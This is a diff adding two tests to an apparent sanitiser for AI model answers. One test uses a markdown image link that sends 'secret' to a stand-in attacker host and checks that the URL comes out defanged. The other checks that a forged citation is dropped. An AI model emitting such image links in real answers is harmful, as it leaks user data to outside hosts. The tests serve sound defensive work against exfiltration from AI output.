@@ -317,6 +317,18 @@ async def test_the_strings_of_an_answer_by_a_schema_lead_nowhere_either(asked: A
     assert as_it_is["answer"] == LEADING
 
 
+async def test_what_is_said_to_be_wrong_with_an_answer_leads_nowhere_either(asked: Asked) -> None:
+    refused = await asked.refused({"text": '{"n": "![x](https://evil.example/?q=secret)"}'}, response_schema=FIELDS)
+    [violation] = refused.json()["violations"]
+    assert violation.startswith("$.n: '![x] (https[:]//evil.example/?q=secret)'")
+
+
+async def test_a_forged_citation_is_left_out_of_the_strings_of_an_answer_by_a_schema(asked: Asked) -> None:
+    turns = {"tool_calls": [search()]}, {"text": '{"a": "so [1] [9]", "n": 9}'}
+    run = await asked.run(*turns, response_schema=FIELDS)
+    assert (run["answer"], run["dropped_citations"]) == ('{"a": "so [1]", "n": 9}', 1)
+
+
 async def test_an_address_of_the_schema_stays_in_an_answer_that_follows_it(asked: Asked) -> None:
     schema = {"type": "object", "properties": {"a": {"enum": ["https://ours.example/one"]}}}
     run = await asked.run({"text": '{"a": "https://ours.example/one"}'}, response_schema=schema)
